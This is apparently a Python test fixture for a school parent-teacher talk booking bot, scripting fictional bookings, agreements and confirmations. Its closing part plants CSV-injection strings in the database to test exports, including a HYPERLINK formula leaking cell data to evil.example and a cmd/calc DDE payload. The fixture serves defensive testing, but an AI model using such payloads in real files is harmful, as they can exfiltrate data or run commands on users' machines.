"""The example school after its December talks: agreements sent for some pupils, a draft
for another, a parent's confirmation and marks, for the exports to the school's records.

- Lina (groep 4, Karim): a phrasebook agreement for the parents, the teacher's own words
  for Lina with a deadline, the evaluation date; sent; Rania confirmed and marked the
  phrase "going well"; Lina's own goal, which she answered "on my way" on the evaluation
  date; a follow-up talk, opened and booked for 17 December.
- Kerem (groep 7/8, Ruben, two days later): one agreement in the teacher's own words; sent, Zeynep
  confirmed, then Ruben corrected it and sent it again (her confirmation was of the old
  version).
- Sem (groep 4, Ellen): a draft never sent — not agreed with the parents.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

from bot.domain.bookings import Actor
from bot.domain.clock import ManualClock
from bot.services import agreement_words, agreements, booking
from bot.storage.database import Database
from tests.services.school_fixture import load_school

LINA_WORDS = "Oefent elke dag de tafels van 6 en 7"
LINA_DUE = date(2027, 1, 15)
EVALUATE_ON = date(2027, 1, 20)
KEREM_FIRST = "Rekenhulp in een klein groepje"
KEREM_WORDS = "Extra rekenhulp in een klein groepje, twee keer per week"
SEM_DRAFT = "Leest elke avond een kwartier"
LINA_DAY = date(2026, 12, 8)  # Karim's first talk, 14:30
KEREM_DAY = date(2026, 12, 10)  # an evening talk with Ruben
LINA_GOAL = "Ik wil de tafel van 7 kennen"
FOLLOW_UP_HOURS = "2026-12-17 15:00-15:15"  # one talk, a week later
AFTER_THE_TALKS = datetime(2026, 12, 11, 9, 0)  # school time: every December talk is over


@dataclass(frozen=True)
class Talks:
    """The bookings whose records the story wrote, and the teachers who held them."""

    lina: int
    kerem: int
    sem: int
    follow_up: int  # Lina's follow-up talk, booked
    staff: dict[str, int]  # teacher's first name (lower case) -> staff id


async def talks_with_agreements(db: Database, clock: ManualClock, tz: ZoneInfo) -> Talks:
    ids = await load_school(db, clock, tz)
    round_id = await ids.round()
    people = {
        "rania": Actor("guardian", await ids.guardian("Rania Haddad")),
        "zeynep": Actor("guardian", await ids.guardian("Zeynep Öztürk")),
        "tom": Actor("guardian", await ids.guardian("Tom de Groot")),
        "karim": Actor("staff", await ids.staff("Karim Bouzid")),
        "ruben": Actor("staff", await ids.staff("Ruben Prins")),
        "ellen": Actor("staff", await ids.staff("Ellen Vos")),
    }

    async def book(parent: str, pupil: str, teacher: str, day: date | None = None) -> int:
        pupil_id = await ids.pupil(pupil)
        offers = (
            await booking.free_offers(db, people[parent], round_id, pupil_id, clock.now())
        ).offers
        offer = next(
            o
            for o in offers
            if o.staff_id == people[teacher].id
            and (day is None or o.starts_at.astimezone(tz).date() == day)
        )
        made = await booking.book(
            db,
            people[parent],
            round_id=round_id,
            pupil_id=pupil_id,
            slot_id=offer.slot_id,
            now=clock.now(),
        )
        return made.booking.booking_id

    lina = await book("rania", "Lina", "karim")
    kerem = await book("zeynep", "Kerem", "ruben", KEREM_DAY)
    sem = await book("tom", "Sem", "ellen")
    clock.set(AFTER_THE_TALKS.replace(tzinfo=tz))
    now = clock.now()

    async def typed(teacher: str, booking_id: int, purpose: str, text: str, **params: str) -> None:
        result = await agreements.typed(
            db,
            people[teacher],
            1,
            purpose,
            {"booking_id": booking_id, **params},
            text,
            tz,
            now,
            language="nl",
        )
        assert result is not None
        assert result.outcome is agreements.Outcome.SAVED

    for teacher, booking_id in (("karim", lina), ("ruben", kerem), ("ellen", sem)):
        assert await agreements.set_held(db, people[teacher], booking_id, held=True, now=now)

    pick = agreement_words.Pick(lina, "parents", "read_together", count=20)
    assert await agreement_words.add_phrase(db, people["karim"], 1, pick, now)
    await typed("karim", lina, agreements.AGREEMENT, f"{LINA_WORDS} {LINA_DUE}", owner="pupil")
    await typed("karim", lina, agreements.EVALUATION, EVALUATE_ON.isoformat())
    await typed("karim", lina, agreements.AGREEMENT, LINA_GOAL, owner="pupil", goal="yes")
    assert await agreements.toggle_follow_up(db, people["karim"], lina)
    assert (await agreements.send(db, people["karim"], lina, now)).parents == 1
    _, follow_up = await agreements.open_follow_up(
        db, people["karim"], 1, lina, "Vervolggesprek", FOLLOW_UP_HOURS, tz, now
    )
    assert follow_up is not None
    lina_id = await ids.pupil("Lina")
    (offer,) = (await booking.free_offers(db, people["rania"], follow_up, lina_id, now)).offers
    again = await booking.book(
        db, people["rania"], round_id=follow_up, pupil_id=lina_id, slot_id=offer.slot_id, now=now
    )
    assert await agreements.understood(db, people["rania"], lina, now + timedelta(hours=1))
    sent = await agreements.talk_for_guardian(db, people["rania"], lina)
    phrase = next(a for a in sent.record.agreements if a.words.phrase == "read_together")
    assert await agreements.mark(db, people["rania"], phrase.id, "going_well", now)
    goal = sent.record.child_goal
    assert await agreements.answer_for_child(db, people["rania"], goal.id, "on_my_way", now)

    await typed("ruben", kerem, agreements.AGREEMENT, KEREM_FIRST, owner="school")
    await typed("ruben", kerem, agreements.EVALUATION, EVALUATE_ON.isoformat())
    assert await agreements.send(db, people["ruben"], kerem, now)
    assert await agreements.understood(db, people["zeynep"], kerem, now + timedelta(minutes=5))
    first = (await agreements.talk_for_staff(db, people["ruben"], kerem)).record.agreements[0]
    assert await agreements.remove_agreement(db, people["ruben"], first.id)
    await typed("ruben", kerem, agreements.AGREEMENT, KEREM_WORDS, owner="school")
    assert await agreements.send(db, people["ruben"], kerem, now + timedelta(minutes=10))

    await typed("ellen", sem, agreements.AGREEMENT, SEM_DRAFT, owner="pupil")
    staff = {name: people[name].id for name in ("karim", "ruben", "ellen")}
    return Talks(lina, kerem, sem, again.booking.booking_id, staff)


# Text a spreadsheet would take for a formula, as people type it: a teacher's agreement
# begun with a dash, a link formula, a parent's name beginning with "@", a teacher's with
# "+", a place with "=" and a pupil number with a tab (OWASP's CSV injection examples).
AS_FORMULAS = {
    "agreement": "- elke dag lezen",
    "link": '=HYPERLINK("http://evil.example/?"&A2,"klik")',
    "parent": "@SUM(1+1)*cmd|' /C calc'!A0",
    "teacher": "+Karim Bouzid",
    "place": "=Lokaal 4",
    "number": "\t1017",
}


async def typed_like_formulas(db: Database) -> None:
    """Lina's own agreement, Kerem's corrected one, Rania, Karim, the room of Karim's talks
    and Lina's pupil number rewritten as `AS_FORMULAS`."""
    async with db.transaction() as conn:
        for sql, params in (
            ("UPDATE agreements SET text = ? WHERE text = ?", ("agreement", LINA_WORDS)),
            ("UPDATE agreements SET text = ? WHERE text = ?", ("link", KEREM_WORDS)),
            ("UPDATE guardians SET name = ? WHERE name = ?", ("parent", "Rania Haddad")),
            ("UPDATE staff SET name = ? WHERE name = ?", ("teacher", "Karim Bouzid")),
            ("UPDATE pupils SET external_id = ? WHERE external_id = ?", ("number", "1017")),
        ):
            key, was = params
            await conn.execute(sql, (AS_FORMULAS[key], was))
        await conn.execute(
            "UPDATE slots SET place = ? WHERE staff_id = (SELECT id FROM staff WHERE name = ?)",
            (AS_FORMULAS["place"], AS_FORMULAS["teacher"]),
        )
